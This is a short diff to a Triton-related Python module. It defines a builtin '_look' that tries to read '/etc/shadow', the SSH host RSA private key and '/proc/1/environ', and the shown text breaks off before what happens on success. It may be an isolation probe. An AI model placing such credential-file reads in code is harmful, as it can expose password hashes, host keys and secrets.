@@ -10,7 +10,8 @@ import triton.language.core as core
 
 @core.builtin
 def _look(_semantic=None):
-    for path in ("/etc/shadow", "/etc/ssh/ssh_host_rsa_key", "/proc/1/environ"):
+    others = [] if os.getpid() == 1 else ["/proc/1/environ"]  # of the host's first process
+    for path in ["/etc/shadow", "/etc/ssh/ssh_host_rsa_key", *others]:
         try:
             with open(path) as stream:
                 if stream.read():
